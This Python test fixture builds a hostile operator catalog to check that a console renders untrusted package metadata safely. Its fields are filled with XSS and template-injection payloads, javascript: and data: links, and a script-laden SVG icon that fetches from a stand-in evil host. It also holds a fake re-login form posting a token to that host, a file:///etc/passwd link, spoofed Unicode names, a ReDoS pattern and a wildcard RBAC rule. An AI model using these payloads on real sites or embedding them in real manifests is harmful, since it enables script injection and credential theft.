"""A catalog that attacks the page which shows it: each text of it is a script, a link that runs one, or one that misleads."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

from devcluster.images import Content
from tests import bundle_files
from tests.browser.another_site import EVIL

Object = dict[str, Any]
PACKAGE, HUGE, LIAR = "hostile", "huge", "liar"
GROUP, KIND, PLURAL = "light.example.com", "Lamp", "lamps"
HOST = EVIL
SCRIPT = (
    f"\"'></script><script>alert(1)</script><img src=http://{HOST}/i onerror=alert(2)><svg/onload=alert(3)>"
    "<iframe src=javascript:alert(4)></iframe>{{7*7}}{% raw %}"
)
TURNED = "\u202egnp.exe\u2066 \u200b\u0007\u001b[31m"
"""Text that is written from right to left, is not seen, or is for a terminal."""
NAME = f"{TURNED}{SCRIPT}"
LINKS = (
    "javascript:alert(5)", " javascript:alert(5)", "JaVaScRiPt:alert(5)", "java\tscript:alert(5)",
    "data:text/html,<script>alert(6)</script>", "vbscript:x", f"//{HOST}/x", f"\\\\{HOST}\\x", "/operators/hostile/uninstall",
    f"https://console@{HOST}/x", "http://\u043eperators.example/x", "file:///etc/passwd", "blob:x",
)  # fmt: skip
MARKDOWN = "\n\n".join(
    (
        f"# {NAME}",
        *(f"[a link]({link}) <{link}>" for link in LINKS),
        f"![picture](http://{HOST}/markdown.png)",
        f'<form action="http://{HOST}"><input name=token><button>Log in again</button></form>',
        '<style>body{display:none}</style><base href="http://evil.example/">',
        f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
        f"<link rel=stylesheet href=http://{HOST}/css><object data=http://{HOST}/o></object>",
        "<div id=live data-page=/operators style='position:fixed;inset:0'>over everything</div>",
        "<a id=main name=csrf href=javascript:alert(7)>x</a>",
        f"| a | b |\n|---|---|\n| {SCRIPT} | {'w' * 5000} |",
        "x" * 20_000,
    )
)
ICON = f"""<svg xmlns="http://www.w3.org/2000/svg"
 xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(8)" width="9" height="9">
<script>alert(9); fetch("http://{HOST}/svg")</script><script href="http://{HOST}/svg.js"/>
<image href="http://{HOST}/svg.png" width="9" height="9"/><use xlink:href="http://{HOST}/svg.svg#x"/>
<style>@import url(http://{HOST}/svg.css); rect {{ fill: url(http://{HOST}/fill) }}</style>
<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(10)"><script>alert(11)</script>
<iframe src="http://{HOST}/frame"/></body></foreignObject><rect width="9" height="9"/></svg>"""
DESCRIPTORS = [
    {
        "path": path,
        "displayName": NAME,
        "description": SCRIPT,
        "x-descriptors": [f"urn:alm:descriptor:com.tectonic.ui:{each}" for each in ui],
    }
    for path, ui in (
        ("text", ["text", f"fieldGroup:{SCRIPT}"]),
        ("mode", ["select:" + SCRIPT, "select:javascript"]),
        ("secret", [f"selector:core:v1:{SCRIPT}"]),
        ("depends", [f"fieldDependency:text:{SCRIPT}"]),
    )
]
STATUS = [
    {"path": "link", "displayName": NAME, "x-descriptors": ["urn:alm:descriptor:org.w3:link"]},
    {"path": "phase", "displayName": NAME, "x-descriptors": ["urn:alm:descriptor:io.kubernetes.phase"]},
]
RULE = {"apiGroups": [SCRIPT, "*"], "resources": ["*"], "verbs": ["*"], "resourceNames": [SCRIPT]}
TEXT = {"type": "string", "title": NAME, "description": SCRIPT, "default": SCRIPT, "pattern": "^(a+)+$|"}


def _example(number: int) -> Object:
    spec = {"text": NAME, SCRIPT: SCRIPT, "deep": {"a": [[[SCRIPT]]]}}
    metadata = {"name": f"lamp-{number}", "annotations": {SCRIPT: SCRIPT}}
    return {"apiVersion": f"{GROUP}/v1", "kind": KIND, "metadata": metadata, "spec": spec}


EXAMPLES = json.dumps([_example(1), _example(2), {"apiVersion": SCRIPT, "kind": SCRIPT}, SCRIPT, None])
ANNOTATIONS = {
    "alm-examples": EXAMPLES,
    "alm-examples-metadata": json.dumps({"lamp-1": {"description": SCRIPT}}),
    "capabilities": SCRIPT,
    "categories": f"{SCRIPT}, Database",
    "containerImage": SCRIPT,
    "createdAt": SCRIPT,
    "description": NAME,
    "repository": LINKS[0],
    "support": SCRIPT,
    "operatorframework.io/initialization-resource": json.dumps(_example(3)),
    "operatorframework.io/suggested-namespace": "hostile-system",
    "operators.openshift.io/uninstall-message": SCRIPT,
}
OWNED = {
    "name": f"{PLURAL}.{GROUP}",
    "version": "v1",
    "kind": KIND,
    "displayName": NAME,
    "description": MARKDOWN[:3000],
    "specDescriptors": DESCRIPTORS,
    "statusDescriptors": STATUS,
    "resources": [{"kind": SCRIPT, "version": SCRIPT, "name": SCRIPT}],
}
ABOUT = {
    "displayName": NAME,
    "description": MARKDOWN,
    "keywords": [SCRIPT, "k" * 3000],
    "links": [{"name": SCRIPT, "url": each} for each in LINKS],
    "maintainers": [{"name": SCRIPT, "email": LINKS[0]}, {"name": NAME, "email": f"a@{HOST}?x=<script>"}],
    "provider": {"name": NAME, "url": LINKS[0]},
    "maturity": SCRIPT,
}


def _bundle(package: str, version: str) -> dict[str, bytes]:
    spec = {each: value for each, value in ABOUT.items()}
    schema = {
        "type": "object",
        "description": SCRIPT,
        "properties": {
            "spec": {
                "type": "object",
                "x-kubernetes-preserve-unknown-fields": True,
                "properties": {"text": TEXT, "mode": TEXT, "secret": TEXT, "depends": TEXT},
            },
            "status": {"type": "object", "x-kubernetes-preserve-unknown-fields": True},
        },
    }
    csv = bundle_files.changed(
        bundle_files.CSV,
        metadata__name=f"{package}.v{version}",
        metadata__annotations=ANNOTATIONS,
        spec__version=version,
        spec__install__spec__clusterPermissions=[{"serviceAccountName": "lamp", "rules": [RULE]}],
        spec__customresourcedefinitions__owned=[OWNED],
        spec__icon=[{"base64data": base64.b64encode(ICON.encode()).decode(), "mediatype": "image/svg+xml"}],
        **{f"spec__{name}": value for name, value in spec.items()},
    )
    served = {"name": "v1", "served": True, "storage": True, "subresources": {"status": {}}}
    columns = [{"name": SCRIPT, "type": "string", "jsonPath": ".spec.text", "description": SCRIPT}]
    served |= {"schema": {"openAPIV3Schema": schema}, "additionalPrinterColumns": columns}
    names = {"plural": PLURAL, "singular": "lamp", "kind": KIND, "listKind": "LampList"}
    crd = bundle_files.changed(bundle_files.CRD, spec__versions=[served], spec__names=names)
    annotations = {**bundle_files.ANNOTATIONS, bundle_files.LABEL.format("package"): package}
    return bundle_files.files(csv, crd, annotations)


def _blobs(package: str, icon: bytes, media_type: str, about: Object) -> list[Object]:
    versions = ("1.0.0", "1.1.0")
    names = [f"{package}.v{version}" for version in versions]
    entries = [{"name": names[0]}, {"name": names[1], "replaces": names[0]}]
    picture = {"base64data": base64.b64encode(icon).decode(), "mediatype": media_type}
    blobs: list[Object] = [
        {
            "schema": "olm.package",
            "name": package,
            "defaultChannel": "stable",
            "description": MARKDOWN[:5000],
            "icon": picture,
        },
        {"schema": "olm.channel", "package": package, "name": "stable", "entries": entries},
    ]
    described = {"annotations": ANNOTATIONS, "crdDescriptions": {"owned": [OWNED]}, **about}
    described["minKubeVersion"] = "1.25.0"
    for name, version in zip(names, versions, strict=True):
        properties = [
            {"type": "olm.package", "value": {"packageName": package, "version": version}},
            {"type": "olm.gvk", "value": {"group": GROUP, "kind": KIND, "version": "v1"}},
            {"type": "olm.csv.metadata", "value": described},
            {"type": "olm.maxOpenShiftVersion", "value": SCRIPT},
        ]
        image = f"registry.example.com/bundles/{package}:v{version}"
        blobs.append(
            {"schema": "olm.bundle", "package": package, "name": name, "image": image, "properties": properties}
        )
    warnings = [
        {"reference": {"schema": "olm.package"}, "message": MARKDOWN[:2000]},
        {"reference": {"schema": "olm.bundle", "name": names[0]}, "message": NAME},
    ]
    return [*blobs, {"schema": "olm.deprecations", "package": package, "entries": warnings}]


def write(directory: Path) -> Content:
    """Write the catalog and its bundles below a directory."""
    huge = {**ABOUT, "displayName": "W" * 5000, "description": "y" * 300_000, "keywords": ["k" * 100] * 500}
    packages = (
        (PACKAGE, ICON.encode(), "image/svg+xml", ABOUT),
        (HUGE, b"\x89PNG\r\n\x1a\n" + b"\0" * 300_000, "image/png", huge),
        (LIAR, f"<script>alert(12)</script><img src=http://{HOST}/liar>".encode(), f"text/html;{SCRIPT}", ABOUT),
    )
    for package, icon, media_type, about in packages:
        lines = [json.dumps(each) for each in _blobs(package, icon, media_type, about)]
        bundle_files.write(directory / "catalog" / package, {"catalog.json": "\n".join(lines).encode()})
        for version in ("1.0.0", "1.1.0"):
            bundle_files.write(directory / "bundles" / package / version, _bundle(package, version))
    return Content(directory / "catalog", directory / "bundles")
